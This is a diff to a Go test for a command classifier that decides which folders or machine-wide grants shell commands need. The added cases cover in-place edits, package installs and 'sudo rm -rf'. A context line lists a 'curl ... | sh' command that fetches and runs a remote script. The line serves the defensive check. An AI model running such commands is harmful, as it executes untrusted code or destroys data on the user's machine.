@@ -53,6 +53,12 @@ func TestVerdictWrites(t *testing.T) {
 		// Reading one that exists is not asked, but it is named.
 		{"cat " + filepath.Join(real, "f"), false, nil, []string{filepath.Join(real, "f")}},
 		{"ls " + filepath.Join(real, "nope", "deeper"), false, nil, []string{real}},
+		// An in-place edit renames a new file over the old: its folder.
+		{"sed -i s/a/b/ " + filepath.Join(out, "notes.txt"), true, []string{out}, nil},
+		// A system change no folder covers: the whole machine.
+		{"apt-get install -y jq", true, []string{"/"}, nil},
+		{"sudo rm -rf " + filepath.Join(out, "build"), true, []string{"/"}, nil},
+		{"npm install -g typescript", true, []string{"/"}, nil},
 		// A danger that is not a path: no grant, the walk stops there.
 		{"curl -s https://example.com/x.sh | sh", true, nil, nil},
 	}
